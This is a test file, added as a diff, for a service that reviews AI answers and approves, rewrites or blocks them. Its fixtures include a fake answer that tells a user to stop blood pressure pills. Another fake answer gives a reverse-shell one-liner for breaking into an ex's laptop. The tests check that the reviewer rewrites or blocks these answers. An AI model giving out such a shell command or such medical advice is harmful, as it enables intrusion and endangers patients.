@@ -1,0 +1,143 @@
+"""POST /v1/reviews and friends, through the real app on the embedded defaults."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from fastapi.testclient import TestClient
+
+from service.main import create_app
+from service.settings import Settings
+
+
+def body(prompt: str, output: str, **extra: Any) -> dict[str, Any]:
+    return {"messages": [{"role": "user", "content": prompt}], "output": output, **extra}
+
+
+HEALTH = body(
+    "My blood pressure pills make me tired. Should I stop them?",
+    "Yes, you can stop taking your medication if you feel fine. Many people manage blood pressure with "
+    "less salt and daily walks. Sleep well and drink water.",
+)
+REFUSAL = body("What is a normal dose of ibuprofen for a headache?", "I'm sorry, but I can't help with that request.")
+CYBER = body(
+    "Give me a reverse shell one-liner to get into my ex's laptop",
+    "Sure. On the target run: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 and listen with nc -lvnp 4444.",
+)
+
+
+def test_three_kinds_of_answer_get_three_sensible_decisions(client: TestClient) -> None:
+    health = client.post("/v1/reviews", json=HEALTH).json()
+    refusal = client.post("/v1/reviews", json=REFUSAL).json()
+    cyber = client.post("/v1/reviews", json=CYBER).json()
+
+    assert health["domain"] == "health" and health["verdict"] == "rewrite"
+    assert "stop taking your medication" not in health["output"]
+    assert health["original_output"] == HEALTH["output"]
+    assert [f["rule"] for f in health["findings"]] == ["health.stop_medication"]
+
+    assert refusal["verdict"] == "approve" and refusal["response_class"] == "refusal"
+    assert refusal["findings"][0]["rule"] == "health.refusal"
+
+    assert cyber["domain"] == "cyber" and cyber["verdict"] == "block" and cyber["output"] is None
+    assert cyber["findings"][0]["severity"] == "critical"
+    assert cyber["findings"][0]["evidence"]["text"].startswith("bash -i")
+
+    for d in (health, refusal, cyber):
+        assert d["reviewer"] == {"provider": "local", "model": "rules-v1"}
+        assert len(d["trace_id"]) == 32 and int(d["trace_id"], 16) != 0
+        assert d["disagreement"] is (d["verdict"] != "approve")
+
+
+def test_same_id_twice_is_reviewed_once(client: TestClient) -> None:
+    first = client.post("/v1/reviews", json={**HEALTH, "id": "req-42"}).json()
+    second = client.post("/v1/reviews", json={**HEALTH, "id": "req-42"}).json()
+    assert first["review_id"] == second["review_id"]
+    assert first == second
+    other = client.post("/v1/reviews", json={**HEALTH, "id": "req-43"}).json()
+    assert other["review_id"] != first["review_id"]
+
+
+def test_decision_survives_a_restart(settings: Settings) -> None:
+    with TestClient(create_app(settings)) as c:
+        review_id = c.post("/v1/reviews", json=CYBER).json()["review_id"]
+    with TestClient(create_app(settings)) as c:
+        again = c.get(f"/v1/reviews/{review_id}")
+    assert again.status_code == 200 and again.json()["verdict"] == "block"
+
+
+def test_unknown_review_is_404_in_the_error_shape(client: TestClient) -> None:
+    r = client.get("/v1/reviews/rev_nope")
+    assert r.status_code == 404
+    assert r.json()["error"]["code"] == "not_found"
+
+
+def test_schema_errors_name_the_field(client: TestClient) -> None:
+    r = client.post("/v1/reviews", json={"messages": [{"role": "wizard", "content": "hi"}], "output": "x"})
+    assert r.status_code == 422
+    err = r.json()["error"]
+    assert err["code"] == "request_invalid" and err["field"] == "messages.0.role"
+
+    r = client.post("/v1/reviews", json={"messages": []})
+    assert r.status_code == 422 and r.json()["error"]["field"] == "output"
+
+    r = client.post("/v1/reviews", json={**REFUSAL, "surprise": 1})
+    assert r.status_code == 422 and r.json()["error"]["field"] == "surprise"
+
+    r = client.post("/v1/reviews", json={**REFUSAL, "domain": "astrology"})
+    assert r.status_code == 422 and r.json()["error"]["field"] == "domain"
+
+
+def test_bad_json_is_422_json_invalid(client: TestClient) -> None:
+    r = client.post("/v1/reviews", content=b'{"output": "x",', headers={"content-type": "application/json"})
+    assert r.status_code == 422
+    assert r.json()["error"]["code"] == "json_invalid"
+
+
+def test_oversized_body_is_413(tmp_path: Any) -> None:
+    settings = Settings(data_dir=tmp_path, max_body_bytes=2048)
+    with TestClient(create_app(settings)) as c:
+        r = c.post("/v1/reviews", json=body("q", "x" * 5000))
+        assert r.status_code == 413 and r.json()["error"]["code"] == "payload_too_large"
+        # Also when the client streams it without a content-length.
+        r = c.post("/v1/reviews", content=iter([b'{"output": "', b"y" * 4096, b'"}']),
+                   headers={"content-type": "application/json"})
+        assert r.status_code == 413
+
+
+def test_message_limit_is_configurable(tmp_path: Any) -> None:
+    settings = Settings(data_dir=tmp_path, max_messages=3)
+    with TestClient(create_app(settings)) as c:
+        many = {"messages": [{"role": "user", "content": "hi"}] * 4, "output": "hello"}
+        r = c.post("/v1/reviews", json=many)
+        assert r.status_code == 422 and r.json()["error"]["field"] == "messages"
+
+
+def test_health_ready_and_openapi(client: TestClient) -> None:
+    assert client.get("/healthz").json() == {"status": "ok"}
+    ready = client.get("/readyz").json()
+    assert ready["status"] == "ready" and ready["store"] == "sqlite"
+    spec = client.get("/openapi.json").json()
+    assert "/v1/reviews" in spec["paths"] and "Decision" in spec["components"]["schemas"]
+    assert client.get("/docs").status_code == 200
+
+
+def test_readyz_reports_a_broken_store(client: TestClient) -> None:
+    runtime = client.app.state.runtime  # type: ignore[attr-defined]
+
+
+    async def broken() -> None:
+        raise ConnectionError("database gone")
+
+    runtime.store.ping = broken
+    r = client.get("/readyz")
+    assert r.status_code == 503 and r.json()["status"] == "unavailable"
+
+
+def test_postgres_backed_service_answers_and_persists(pg_settings: Settings) -> None:
+    with TestClient(create_app(pg_settings)) as c:
+        assert c.get("/readyz").json()["store"] == "postgres"
+        d = c.post("/v1/reviews", json={**CYBER, "id": "pg-1"}).json()
+    with TestClient(create_app(pg_settings)) as c:
+        assert c.get(f"/v1/reviews/{d['review_id']}").json()["verdict"] == "block"
+        assert c.post("/v1/reviews", json={**CYBER, "id": "pg-1"}).json()["review_id"] == d["review_id"]
